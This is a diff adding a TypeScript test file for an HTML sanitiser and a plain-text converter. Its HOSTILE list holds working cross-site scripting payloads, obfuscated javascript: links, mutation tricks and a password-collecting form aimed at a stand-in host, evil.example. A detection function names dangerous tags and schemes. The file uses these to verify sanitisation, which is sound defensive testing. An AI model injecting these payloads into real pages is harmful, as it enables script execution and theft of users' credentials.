@@ -1,0 +1,104 @@
+import fc from 'fast-check'
+import { Parser } from 'htmlparser2'
+import { describe, expect, test } from 'vitest'
+import { cleanHtml, textOfHtml } from '~/domain/content/rich-text.server'
+
+/** What a browser would find in it that runs, loads or reaches out. */
+function dangers(html: string): string[] {
+  const found: string[] = []
+  const parser = new Parser({
+    onopentag(name, attributes) {
+      if (/^(script|style|iframe|object|embed|svg|math|form|input|button|textarea|link|meta|base|template|video|audio)$/.test(name))
+        found.push(name)
+      for (const [key, value] of Object.entries(attributes)) {
+        if (key.startsWith('on') || key === 'srcdoc' || key === 'formaction') found.push(key)
+        // Browsers ignore control characters and spaces inside a scheme.
+        // oxlint-disable-next-line no-control-regex
+        const address = value.replace(/[\u0000-\u0020]/g, '').toLowerCase()
+        if (/^(href|src)$/.test(key) && /^(javascript|data|vbscript|file|blob):/.test(address)) found.push(`${key}=${address}`)
+        if (key === 'style' && /url|expression|position|@import/i.test(value)) found.push(value)
+      }
+    },
+    oncomment: (words) => void found.push(`comment ${words}`),
+  })
+  parser.end(html)
+  return found
+}
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a>',
+  '<a href="&#1;javascript:alert(1)">x</a>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="https://evil.example"><input name="password"></form>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<base href="https://evil.example">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
+  '<a href="//evil.example" onclick="x()">x</a>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '</p><script\u0000>alert(1)</script>',
+]
+
+describe('HTML that people wrote', () => {
+  test.each(HOSTILE)('%s does nothing once it is cleaned', (html) => expect(dangers(cleanHtml(html))).toEqual([]))
+
+  test('whatever is put together from such pieces does nothing, and cleaning again changes nothing', () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...HOSTILE),
+      fc.constantFrom(
+        '<p>',
+        '</p>',
+        '<div style="',
+        '">',
+        '<a href=',
+        "'",
+        '"',
+        '<',
+        '>',
+        '&lt;',
+        '&',
+        '[[name]]',
+        '<b title="',
+        '-->',
+        '<![CDATA[',
+      ),
+      fc.string({ maxLength: 12 }),
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
+        const clean = cleanHtml(pieces.join(''))
+        expect(dangers(clean)).toEqual([])
+        expect(cleanHtml(clean)).toBe(clean)
+      }),
+      { numRuns: 600 },
+    )
+  })
+
+  test('what an editor writes stays: headings, lists, tables, links, alignment, merge tags', () => {
+    const html =
+      '<h2>Thank you</h2><p style="text-align:center">Dear <strong>[[first_name]]</strong>,</p><ul><li>One</li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table><p><a href="[[contribution_url]]">See it</a> <img src="https://example.org/a.png" alt="A" /></p>'
+    expect(cleanHtml(html)).toBe(html)
+  })
+
+  test('a long run of opening brackets is read in no time', () => {
+    const started = performance.now()
+    cleanHtml('<'.repeat(200_000))
+    cleanHtml('<p '.repeat(60_000))
+    expect(performance.now() - started).toBeLessThan(2000)
+  })
+
+  test('as plain text, paragraphs stand apart, items have a dash and links their address', () => {
+    expect(
+      textOfHtml('<h2>Hello</h2><p>One<br>two &amp; three</p><ul><li>a</li><li>b</li></ul><p><a href="https://x.example/y">See</a></p>'),
+    ).toBe('Hello\n\nOne\ntwo & three\n\n- a\n- b\n\nSee (https://x.example/y)')
+  })
+})
